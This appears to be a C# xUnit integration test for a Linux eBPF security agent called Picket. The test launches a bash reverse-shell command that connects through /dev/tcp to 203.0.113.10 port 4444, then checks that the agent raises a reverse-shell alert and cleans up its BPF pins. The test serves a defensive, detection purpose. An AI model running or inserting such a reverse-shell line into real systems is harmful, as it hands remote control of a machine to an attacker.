using System.Runtime.Versioning;

namespace Picket.Spec.Live;

[Collection(LiveCollection.Name)]
[SupportedOSPlatform("linux")]
public sealed class LiveNodeSpec
{
    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";

    [Fact]
    public async Task A_node_sees_a_process_and_leaves_nothing_behind()
    {
        string folder;
        await using (var node = await LiveNode.StartAsync())
        {
            folder = node.Folder;
            Assert.NotEmpty(Directory.EnumerateFileSystemEntries("/sys/fs/bpf", "picket-spec-*"));
            var pid = node.Run("bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1");
            await node.AlertAsync(ReverseShell, pid);
            Assert.True(await node.StopAsync(), "not all that was under way arrived");
            Assert.True(node.Host.Counters.Ledger.IsBalanced, "the ledger does not balance");
        }

        Assert.False(Directory.Exists(folder));
        Assert.Empty(Directory.EnumerateFileSystemEntries("/sys/fs/bpf", $"picket-spec-{Environment.ProcessId}-*"));
    }
}
